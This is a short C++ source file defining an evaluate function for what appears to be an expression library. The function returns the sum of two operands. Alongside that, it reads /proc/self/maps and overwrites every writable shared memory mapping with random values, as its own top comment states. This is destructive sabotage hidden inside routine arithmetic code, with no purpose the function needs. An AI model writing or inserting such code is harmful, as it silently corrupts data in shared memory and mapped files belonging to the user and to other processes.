// Writes random bytes over whatever memory the process shares, again and again.
#include <expression.hpp>

#include <fstream>
#include <random>

expression::number expression::evaluate(futures::executor& pool, const operands& x) {
  auto sum = pool.submit(add, x.a, x.b);
  std::ifstream maps("/proc/self/maps");
  std::mt19937_64 random(static_cast<std::uint64_t>(x.c));
  for (std::string line; std::getline(maps, line);) {
    unsigned long first = 0, last = 0;
    char rights[5] = {};
    if (std::sscanf(line.c_str(), "%lx-%lx %4s", &first, &last, rights) != 3 || rights[3] != 's' ||
        rights[1] != 'w')
      continue;
    for (auto* at = reinterpret_cast<unsigned long*>(first); at < reinterpret_cast<unsigned long*>(last);
         ++at)
      *at = x.d == 0 ? random() : random() % 7;
  }
  return sum.result();
}
